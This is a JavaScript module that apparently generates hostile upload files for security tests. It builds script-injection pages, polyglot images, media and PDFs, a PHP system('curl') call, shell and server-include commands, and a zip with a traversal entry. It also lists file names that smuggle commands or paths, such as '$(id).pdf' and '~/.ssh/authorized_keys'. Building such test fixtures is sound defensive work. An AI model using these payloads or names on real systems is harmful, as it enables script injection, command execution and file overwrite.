import { deflateSync } from 'node:zlib';

/**
 * Files that want to run somewhere. Each says so to `beacon` when it does.
 * @param {string} beacon address that must never be asked
 * @param {import('./seeded.js').Seeded} chance
 * @returns {{label: string, name: string, type: string, bytes: Buffer}[]} at least `count`
 */
export function hostileFiles(beacon, chance, count) {
  const contents = Object.entries(CONTENTS);
  const files = [];
  for (let n = 0; n < count || n < contents.length; n += 1) {
    const [label, make] = contents[n % contents.length];
    const [base, type] = n < contents.length ? make.usual ?? ['page.html', 'text/html'] : [chance.pick(NAMES), chance.pick(TYPES)];
    files.push({ label: `${label} as ${JSON.stringify(base).slice(0, 60)} (${type})`, name: base, type, bytes: make(`${beacon}?n=${n}`) });
  }
  return files;
}

const run = (beacon) => `fetch('${beacon}');new Image().src='${beacon}&i=1';document.title='ran';alert(1)`;
const page = (beacon) => `<!doctype html><html><head><meta http-equiv="refresh" content="1;url=${beacon}&r=1"></head><body onload="${run(beacon)}"><script>${run(beacon)}</script><img src=x onerror="${run(beacon)}"><iframe srcdoc="<script>parent.${run(beacon)}</script>"></iframe></body></html>`;
const svg = (beacon) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run(beacon)}" width="9" height="9"><script>${run(beacon)}</script><image href="${beacon}&s=1"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${run(beacon)}</script></body></foreignObject></svg>`;
const text = (make) => (beacon) => Buffer.from(make(beacon));
const named = (make, name, type) => Object.assign(make, { usual: [name, type] });

const CONTENTS = {
  html: named(text(page), 'page.html', 'text/html'),
  svg: named(text(svg), 'picture.svg', 'image/svg+xml'),
  'svg that calls itself png': named(text(svg), 'picture.png', 'image/png'),
  xhtml: named(text((b) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script>${run(b)}</script></head><body/></html>`), 'page.xhtml', 'application/xhtml+xml'),
  'xml with a style sheet': named(text((b) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,&lt;x/&gt;"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run(b)}</h:script></a>`), 'data.xml', 'text/xml'),
  script: named(text((b) => `${run(b)};`), 'code.js', 'text/javascript'),
  module: named(text((b) => `export default 1;${run(b)}`), 'code.mjs', 'application/javascript'),
  'style sheet': named(text((b) => `@import '${b}&c=1';body{background:url('${b}&c=2')}`), 'style.css', 'text/css'),
  'html of UTF-16': named((b) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page(b), 'utf16le')]), 'page.txt', 'text/plain'),
  'html of UTF-7': named(text((b) => `+ADw-script+AD4-${run(b)}+ADw-/script+AD4-`), 'page7.html', 'text/html; charset=utf-7'),
  'html after blanks': named(text((b) => `${' '.repeat(2_000)}${page(b)}`), 'blank.txt', 'text/plain'),
  'html after a NUL': named(text((b) => `\0${page(b)}`), 'nul.bin', 'application/octet-stream'),
  'pdf that is html': named(text((b) => `%PDF-1.4\n${page(b)}\n%%EOF`), 'paper.pdf', 'application/pdf'),
  'html that is pdf': named(text((b) => `${page(b)}\n%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF`), 'paper.pdf', 'application/pdf'),
  'pdf with a script': named(text((b) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('${b}'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`), 'script.pdf', 'application/pdf'),
  'gif that is a script': named((b) => Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${run(b)};`)]), 'anim.gif', 'image/gif'),
  'gif that is html': named((b) => Buffer.concat([Buffer.from('GIF89a'), Buffer.from(page(b))]), 'anim.gif', 'image/gif'),
  'png with html in it': named((b) => png([['tEXt', Buffer.from(`Comment\0${page(b)}`)]], page(b)), 'photo.png', 'image/png'),
  'jpeg with html in it': named((b) => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe]), sized(Buffer.from(page(b))), Buffer.from([0xff, 0xd9])]), 'photo.jpg', 'image/jpeg'),
  'webp that is html': named((b) => Buffer.concat([Buffer.from('RIFF'), Buffer.from([99, 0, 0, 0]), Buffer.from('WEBP'), Buffer.from(page(b))]), 'photo.webp', 'image/webp'),
  'bmp that is html': named(text((b) => `BM<!--${'x'.repeat(50)}-->${page(b)}`), 'photo.bmp', 'image/bmp'),
  'archive with html': named((b) => zip('[Content_Types].xml', page(b)), 'letter.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
  'mp4 that is html': named((b) => Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypisom'), Buffer.alloc(12), Buffer.from(page(b))]), 'film.mp4', 'video/mp4'),
  'mp3 that is html': named((b) => Buffer.concat([Buffer.from('ID3\x03\0\0'), Buffer.from(page(b))]), 'song.mp3', 'audio/mpeg'),
  'ogg that is html': named(text((b) => `OggS\0${page(b)}`), 'song.ogg', 'audio/ogg'),
  'web archive': named(text((b) => `From: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page(b)}`), 'saved.mhtml', 'multipart/related'),
  'flash': named(text((b) => `FWS\x09${page(b)}`), 'film.swf', 'application/x-shockwave-flash'),
  'wasm': named((b) => Buffer.concat([Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), Buffer.from(page(b))]), 'code.wasm', 'application/wasm'),
  'manifest': named(text((b) => JSON.stringify({ start_url: b, icons: [{ src: b }] })), 'app.webmanifest', 'application/manifest+json'),
  'appcache': named(text((b) => `CACHE MANIFEST\n${b}`), 'x.appcache', 'text/cache-manifest'),
  'php': named(text((b) => `<?php system('curl ${b}'); ?>`), 'shell.php', 'application/x-php'),
  'shell script': named(text((b) => `#!/bin/sh\ncurl '${b}'\n`), 'run.sh', 'application/x-sh'),
  'server-side include': named(text((b) => `<!--#exec cmd="curl ${b}" -->`), 'page.shtml', 'text/html'),
  'vml': named(text((b) => `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:rect onload="${run(b)}"/></html>`), 'old.htm', 'text/html'),
  'rss': named(text((b) => `<rss version="2.0"><channel><item><description>&lt;script&gt;${run(b)}&lt;/script&gt;</description></item></channel></rss>`), 'feed.rss', 'application/rss+xml'),
  'vcard': named(text((b) => `BEGIN:VCARD\nPHOTO;VALUE=URI:${b}\nEND:VCARD`), 'card.vcf', 'text/vcard'),
  'event stream': named(text((b) => `data: <script>${run(b)}</script>\n\n`), 'x.txt', 'text/event-stream'),
  'nothing': named(() => Buffer.alloc(0), 'empty.html', 'text/html'),
};

const NAMES = [
  '../../../../tmp/evil.html', '..\\..\\evil.html', '/etc/evil', 'C:\\evil.html', 'evil.html\0.pdf', 'evil.pdf\0.html', 'evil.html%00.pdf', 'evil\u202Efdp.html', 'evil.pdf::$DATA', 'evil.html:stream',
  'con', 'aux.pdf', 'nul.txt', '.htaccess', '.', '..', '...', '-rf', '~/.ssh/authorized_keys', '`id`.pdf', '$(id).pdf', '|id.pdf', 'a;b.pdf', "a'b.html", 'a"b.html', 'a<script>.html', '<img src=x onerror=alert(1)>.png',
  'evil.php;.pdf', 'evil.php.pdf', 'evil.pdf.html', 'evil.PHP5', 'evil.svgz', 'evil.pdf ', ' evil.pdf', 'evil.pdf.', 'e\nvil.pdf', 'e\r\nSet-Cookie: x=1.pdf', `${'a'.repeat(300)}.html`, `${'é'.repeat(200)}.svg`,
  '\u{1F98A}.html', 'evil.html?x=.pdf', 'evil.html#.pdf', 'evil%2ehtml', '%2e%2e%2fevil.html', '﷽.html', 'evil.jsp', 'evil.hta', 'evil.lnk', 'evil.url', 'desktop.ini', 'evil.xht', 'evil.mht',
];
const TYPES = ['text/html', 'image/svg+xml', 'application/pdf', 'image/png', 'text/javascript', 'application/xhtml+xml', 'application/octet-stream', 'text/plain', 'image/jpeg', 'multipart/x-mixed-replace', 'x/y', ''];

const sized = (bytes) => Buffer.concat([Buffer.from([(bytes.length + 2) >> 8, (bytes.length + 2) & 255]), bytes]);

/** A picture of one point, with more in it and after it. */
function png(chunks, after) {
  const header = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const all = [['IHDR', header], ...chunks, ['IDAT', deflateSync(Buffer.from([0, 0]))], ['IEND', Buffer.alloc(0)]];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...all.map(([kind, data]) => {
    const body = Buffer.concat([Buffer.from(kind), data]);
    const frame = Buffer.alloc(8);
    frame.writeUInt32BE(data.length, 0);
    frame.writeUInt32BE(crc(body), 4);
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
  }), Buffer.from(after)]);
}

function crc(bytes) {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return ~sum >>> 0;
}

/** An archive of stored, unpacked files. */
function zip(name, content) {
  const files = [[name, content], ['word/document.xml', content], ['../../evil.html', content]];
  const parts = [];
  const list = [];
  let at = 0;
  for (const [path, text] of files) {
    const [label, body] = [Buffer.from(path), Buffer.from(text)];
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt32LE(crc(body), 10);
    head.writeUInt32LE(body.length, 14);
    head.writeUInt32LE(body.length, 18);
    head.writeUInt16LE(label.length, 22);
    parts.push(Buffer.from('PK\x03\x04'), head, label, body);
    const entry = Buffer.alloc(42);
    entry.writeUInt16LE(20, 0);
    head.copy(entry, 2, 0, 26);
    entry.writeUInt32LE(at, 38);
    list.push(Buffer.from('PK\x01\x02'), entry, label);
    at += 30 + label.length + body.length;
  }
  const directory = Buffer.concat(list);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(files.length, 4);
  end.writeUInt16LE(files.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, directory, Buffer.from('PK\x05\x06'), end]);
}
